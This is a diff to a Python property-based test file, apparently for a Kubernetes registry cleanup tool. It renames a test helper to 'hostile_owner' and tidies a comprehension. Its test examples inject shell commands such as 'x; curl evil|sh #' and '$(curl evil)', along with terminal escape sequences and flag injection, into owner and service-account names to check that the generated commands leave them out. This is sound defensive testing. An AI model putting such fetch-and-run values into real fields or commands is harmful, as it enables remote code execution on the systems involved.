@@ -175,8 +175,10 @@ def answers(draw: st.DrawFn) -> t.Callable[..., RegistryState]:
 
     def ask(_task: t.Any, _options: t.Any, cluster: ClusterState) -> RegistryState:
         images = cluster.images()
-        seen = {str(each): facts if exists else ImageFacts(exists=False) for found in images.values() for each in found}
-        operator = [Answer(each, images=seen, tags=tags, listed=True) for each in images]
+        known = {
+            str(each): facts if exists else ImageFacts(exists=False) for found in images.values() for each in found
+        }
+        operator = [Answer(each, images=known, tags=tags, listed=True) for each in images]
         near = [Reference(REGISTRY, each, tag) for each in [*images, "openclaw/openclaw"] for tag in ("1", "x-y_z.2")]
         pods = [Answer(repository, secret, error) for repository, secret, _entry in cluster.accounts()]
         return RegistryState(operator, pods, {str(each): facts for each in near}, ["openclaw/openclaw"])
@@ -189,7 +191,7 @@ def scenes(draw: st.DrawFn) -> tuple[Scene, t.Callable[..., RegistryState]]:
     return altered(draw), answers(draw)
 
 
-def attacked(kind: str, name: str) -> tuple[Scene, t.Callable[..., RegistryState]]:
+def hostile_owner(kind: str, name: str) -> tuple[Scene, t.Callable[..., RegistryState]]:
     return Scene.of("wrong").owner(kind, name), lambda *_arguments: RegistryState()
 
 
@@ -202,12 +204,12 @@ def without_account(service_account: str) -> tuple[Scene, t.Callable[..., Regist
 
 @settings(max_examples=3 * settings().max_examples)
 @given(scenes())
-@example(attacked("x; curl evil|sh #", "x"))
-@example(attacked("Deployment", "x; curl evil|sh #"))
-@example(attacked("Deployment", "\x1b[2J\x1b]0;evil\x07"))
-@example(attacked("Deployment", "a\nb"))
-@example(attacked("Deployment", "$(curl evil)"))
-@example(attacked("Deployment", "--all"))
+@example(hostile_owner("x; curl evil|sh #", "x"))
+@example(hostile_owner("Deployment", "x; curl evil|sh #"))
+@example(hostile_owner("Deployment", "\x1b[2J\x1b]0;evil\x07"))
+@example(hostile_owner("Deployment", "a\nb"))
+@example(hostile_owner("Deployment", "$(curl evil)"))
+@example(hostile_owner("Deployment", "--all"))
 @example(without_account("default; curl evil|sh #"))
 def test_commands(found: tuple[Scene, t.Callable[..., RegistryState]]) -> None:
     scene, ask = found
@@ -234,7 +236,7 @@ def test_commands(found: tuple[Scene, t.Callable[..., RegistryState]]) -> None:
 @pytest.mark.parametrize(("kind", "name"), [("x; curl evil|sh #", "x"), ("Deployment", "x; curl evil|sh #")])
 def test_the_finding_says_what_is_left_out(kind: str, name: str) -> None:
     """The pods can be deleted by their own names; the owner is in no command."""
-    scene, ask = attacked(kind, name)
+    scene, ask = hostile_owner(kind, name)
     params = {
         "registry": REGISTRY,
         "namespace": NAMESPACE,
